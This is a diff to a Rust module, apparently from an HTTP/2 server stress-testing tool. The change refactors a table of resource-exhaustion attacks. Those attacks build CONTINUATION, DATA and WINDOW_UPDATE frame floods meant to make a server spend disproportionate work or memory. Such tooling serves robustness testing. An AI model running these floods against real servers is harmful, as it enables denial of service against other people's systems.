@@ -1,7 +1,7 @@
 //! Attacks on a server of HTTP/2, each of which asks it for more work, or more memory, than it costs.
 
 use std::collections::BTreeMap;
-use std::io::{self, Read as _, Write as _};
+use std::io::{Read as _, Write as _};
 use std::net::{Shutdown, SocketAddr, TcpStream};
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::thread;
@@ -9,7 +9,7 @@ use std::time::{Duration, Instant};
 
 use super::frames::{
     CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, GOAWAY, HEADERS, PING, POST, PRIORITY,
-    RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, opening,
+    RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, is_timeout, opening,
 };
 
 /// Time for which a client of the attack waits for room to send.
@@ -77,11 +77,7 @@ pub const ATTACKS: &[Attack] = &[
         round: |round| {
             let field = [&b"\x00\x08x-filler\x7f\x81\x07"[..], &[b'a'; 262]].concat();
             let more = frame(CONTINUATION, 0, 1, &field.repeat(50));
-            if round == 0 {
-                [frame(HEADERS, END_STREAM, 1, GET), more].concat()
-            } else {
-                more
-            }
+            behind(round, frame(HEADERS, END_STREAM, 1, GET), more)
         },
         reads: true,
         is_slow: false,
@@ -91,11 +87,7 @@ pub const ATTACKS: &[Attack] = &[
         settings: &[],
         round: |round| {
             let more = frame(CONTINUATION, 0, 1, b"").repeat(1_000);
-            if round == 0 {
-                [frame(HEADERS, END_STREAM, 1, GET), more].concat()
-            } else {
-                more
-            }
+            behind(round, frame(HEADERS, END_STREAM, 1, GET), more)
         },
         reads: true,
         is_slow: false,
@@ -129,11 +121,7 @@ pub const ATTACKS: &[Attack] = &[
         settings: &[],
         round: |round| {
             let more = frame(DATA, 0, 1, b"").repeat(1_000);
-            if round == 0 {
-                [frame(HEADERS, END_HEADERS, 1, POST), more].concat()
-            } else {
-                more
-            }
+            behind(round, frame(HEADERS, END_HEADERS, 1, POST), more)
         },
         reads: true,
         is_slow: false,
@@ -151,11 +139,7 @@ pub const ATTACKS: &[Attack] = &[
         settings: &[],
         round: |round| {
             let more = frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(1_000);
-            if round == 0 {
-                [frame(HEADERS, END_HEADERS, 1, POST), more].concat()
-            } else {
-                more
-            }
+            behind(round, frame(HEADERS, END_HEADERS, 1, POST), more)
         },
         reads: true,
         is_slow: false,
@@ -216,6 +200,15 @@ pub const ATTACKS: &[Attack] = &[
         is_slow: false,
     },
 ];
+
+/// Returns the frames of a round, which the first one begins with a head.
+fn behind(round: u32, head: Vec<u8>, more: Vec<u8>) -> Vec<u8> {
+    if round == 0 {
+        [head, more].concat()
+    } else {
+        more
+    }
+}
 
 /// Returns the frames of the streams of a round.
 fn streams(round: u32, each: u32, of: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
@@ -337,13 +330,6 @@ impl Attack {
             received.drain(..received.len() - left);
         }
     }
-}
-
-fn is_timeout(error: &io::Error) -> bool {
-    matches!(
-        error.kind(),
-        io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
-    )
 }
 
 /// Returns the name of a reason (RFC 9113, section 7).
